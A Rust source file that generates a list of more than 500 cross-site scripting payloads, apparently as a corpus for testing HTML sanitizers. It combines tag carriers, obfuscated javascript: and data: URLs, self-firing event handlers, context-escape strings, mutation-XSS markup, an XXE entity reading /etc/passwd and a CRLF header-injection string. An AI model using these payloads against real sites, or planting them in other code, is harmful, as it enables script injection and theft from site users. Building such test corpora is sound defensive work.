//! Ways in which text has been made to act in a browser: carriers, events, spellings of schemes, ways out of the
//! place where text stands, and markup that changes its shape when it is read again.

/// Elements that act by themselves or fetch something that does. `{}` is where an address stands.
const CARRIERS: [&str; 34] = [
    "<a href=\"{}\">a</a>",
    "<a href={}>a",
    "<a href='{}' target=_blank>a</a>",
    "<img src=\"{}\">",
    "<img src=x srcset=\"{} 1x\">",
    "<img src=x longdesc=\"{}\" usemap=\"{}\">",
    "<map><area href=\"{}\" shape=default></map>",
    "<form action=\"{}\"><button>a</button></form>",
    "<form><button formaction=\"{}\">a</button></form>",
    "<input type=image src=\"{}\" formaction=\"{}\">",
    "<isindex type=image src=\"{}\" action=\"{}\">",
    "<iframe src=\"{}\"></iframe>",
    "<frameset><frame src=\"{}\"></frameset>",
    "<object data=\"{}\"></object>",
    "<object><param name=src value=\"{}\"></object>",
    "<embed src=\"{}\">",
    "<applet code=x codebase=\"{}\"></applet>",
    "<base href=\"{}\">",
    "<link rel=stylesheet href=\"{}\">",
    "<link rel=import href=\"{}\">",
    "<meta http-equiv=refresh content=\"0;url={}\">",
    "<script src=\"{}\"></script>",
    "<video src=\"{}\" poster=\"{}\"></video>",
    "<audio src=\"{}\"></audio>",
    "<video><source src=\"{}\"><track src=\"{}\"></video>",
    "<svg><a xlink:href=\"{}\"><text>a</text></a></svg>",
    "<svg><use href=\"{}\"></use></svg>",
    "<svg><image href=\"{}\"/><script href=\"{}\"/></svg>",
    "<math><maction actiontype=statusline xlink:href=\"{}\">a</maction></math>",
    "<blockquote cite=\"{}\">a</blockquote>",
    "<table background=\"{}\"><tr><td background=\"{}\">a",
    "<body background=\"{}\">",
    "<div style=\"background:url({})\">a</div>",
    "<style>@import \"{}\";</style>",
];

/// Spellings of addresses that act.
const ADDRESSES: [&str; 22] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "javascript\u{0}:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
    "javascript://%0aalert(1)",
    "javascript:\u{2028}alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
];

/// Events, on an element on which each happens without anyone's doing.
const EVENTS: [(&str, &str); 26] = [
    ("img src=x", "onerror"),
    ("img src=x", "onload"),
    ("image src=x", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x", "onloadstart"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onend"),
    ("math", "onclick"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("a tabindex=1 autofocus", "onfocusin"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("p style='animation:x 1s'", "onanimationstart"),
    ("div contenteditable autofocus", "onfocus"),
    ("x-element", "onpointerenter"),
];

/// Ways to write an event onto an element. `{e}` is the element, `{v}` the event.
const WRITINGS: [&str; 6] = [
    "<{e} {v}=alert(1)>",
    "<{e} {v}=\"alert(1)\"></{e}>",
    "<{e}/{v}=alert(1)//",
    "<{e}\n{v}\n=\nalert(1)>",
    "<{e} x=\"'\" {v}='alert(1)'",
    "<{e} {v}&#61;alert(1) {v}=&#97;lert(1)>",
];

/// Out of the place where text stands, and into one where it acts.
const WAYS_OUT: [&str; 40] = [
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "]]]]><![CDATA[><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script ><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>",
    "<!--<script></script>--><img src=x onerror=alert(1)>",
    "</noscript><script>alert(1)</script>",
    "</xmp><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</svg></math><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "\" autofocus onfocus=alert(1) x=\"",
    "\\\"><script>alert(1)</script>",
    "\\\";alert(1)//",
    "\";alert(1)//",
    "';alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u{feff}<script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]><x>&e;</x>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "<%= alert(1) %><script>alert(1)</script>",
    "\r\n\r\n<script>alert(1)</script>",
    "x\r\nset-cookie: a=b\r\ncontent-type: text/html\r\n\r\n<script>alert(1)</script>",
    "</content></entry><entry><content type=\"html\">&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// Markup that means one thing to the reader that judges it and another to the one that shows it.
const SHAPES: [&str; 48] = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<script\u{c}>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<script>alert(1)",
    "<script>alert(1)</script",
    "<script x=\">\">alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<svg><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><title><style><img title=\"</style></title><img src=x onerror=alert(1)>\">",
    "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><foreignObject><math><mi><b><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><p><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi></table><table><mglyph><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<table><a href=javascript:alert(1)>a<td></table>",
    "<table><script>alert(1)</script><tr><td><svg onload=alert(1)>",
    "<select><script>alert(1)</script><option><style></select><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p><a href=\"&#0;javascript:alert(1)\">a</a><a href=\"\u{0}\">",
    "<a href=\"https://x.example/\" href=\"javascript:alert(1)\">a</a>",
    "<a/href=\"javascript:alert(1)\"/href=\"https://x.example/\">a</a>",
    "<img src=x:x onerror=\"alert(1)\" src=\"https://x.example/a.png\">",
    "<img alt=\"`><script>alert(1)</script>\" src=x>",
    "<img title='\"><img src=x onerror=alert(1)>' src='https://x.example/a.png'>",
    "<b><i><u></b></i></u><b><p></b><script>alert(1)</script>",
    "<a><table><td><a><table></table><a></tr><a></table><b onclick=alert(1)>X</b>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![if true]><script>alert(1)</script><![endif]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;</p>",
    "<p id=\"documentElement\" name=\"getElementById\"><form id=a><input name=attributes></form>",
    "<div\u{0}onclick=alert(1)>a</div>",
    "<p lang=\"x\" onclick=\"alert(1)\" dir='\"><script>alert(1)</script>'>a</p>",
];

/// Every one of them; more than 500, none twice.
pub fn all() -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    // Each carrier with every third address, so that each address comes with many carriers.
    for (n, carrier) in CARRIERS.iter().enumerate() {
        let some = ADDRESSES.iter().enumerate().filter(|(m, _)| (n + m).is_multiple_of(3));
        found.extend(some.map(|(_, address)| carrier.replace("{}", address)));
    }
    for (element, event) in EVENTS {
        found.extend(WRITINGS.map(|writing| writing.replace("{e}", element).replace("{v}", event)));
    }
    found.extend(WAYS_OUT.iter().chain(&SHAPES).chain(&ADDRESSES).map(ToString::to_string));
    found.sort();
    found.dedup();
    found
}
